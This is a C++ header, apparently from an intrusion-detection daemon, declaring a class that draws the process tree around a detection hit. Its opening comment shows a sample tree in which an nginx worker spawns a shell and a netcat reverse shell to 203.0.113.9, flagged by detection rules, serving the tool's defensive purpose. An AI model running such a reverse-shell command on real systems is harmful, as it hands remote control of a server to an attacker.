// The processes around a hit, as a tree: those that hit, and who started them, dead or alive.
//
//   systemd(1) > nginx(801) root > nginx(812) www-data
//   `- sh(9921) 15:03:07 sh -c 'id; uname -a'                        * web-shell #1042
//      |- id(9922)
//      `- nc(9933) 15:03:09 nc -e /bin/sh 203.0.113.9 443            * nc-reverse #1043
#pragma once

#include <cstddef>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "src/report/terminal.h"
#include "src/store/hit_reader.h"

namespace detectd {

class ProcessTree {
 public:
  // `hits` with their ancestors, nearest first; one of them is number `center`.
  struct Member {
    StoredHit hit;
    std::vector<StoredAncestor> ancestors;
  };
  ProcessTree(const std::vector<Member>& members, int64_t center);

  // At most `max_lines`, and then how many are left out. Nothing is wider than the terminal.
  std::string text(const Terminal& terminal, size_t max_lines) const;
  // An object a process, parents first.
  std::string json() const;

 private:
  // One image of a process, at its first hit, with what hit it.
  struct Image {
    std::string name, command, user;
    int64_t time_ns = 0;
    std::vector<const StoredHit*> hits;
  };
  struct Node {
    std::string key;
    std::optional<int64_t> pid;
    std::string name, user;  // as an ancestor
    std::string command;
    std::vector<Image> images;  // that hit, in order of time
    std::string parent;         // key; empty: not known
    std::vector<std::string> children;
    int64_t first_ns = 0;
  };
  struct Line {
    std::string left, command, right;
    Level level = Level::kInformational;
    bool center = false;
  };

  Node& node(const std::string& key);
  void add(const Member& member);
  void choose_root(const Member& center);
  bool has_hits_below(const Node& node, size_t depth) const;
  std::vector<const Node*> shown_children(const Node& node) const;
  std::string header() const;
  void add_lines(const Node& node, const std::string& first, const std::string& next, size_t depth,
                 std::vector<Line>& lines) const;
  std::string rules_of(const Image& image) const;

  std::map<std::string, Node> nodes_;
  std::string root_;  // whose children are shown; empty: `top_` alone
  std::string top_;
  int64_t center_ = 0;
};

}  // namespace detectd
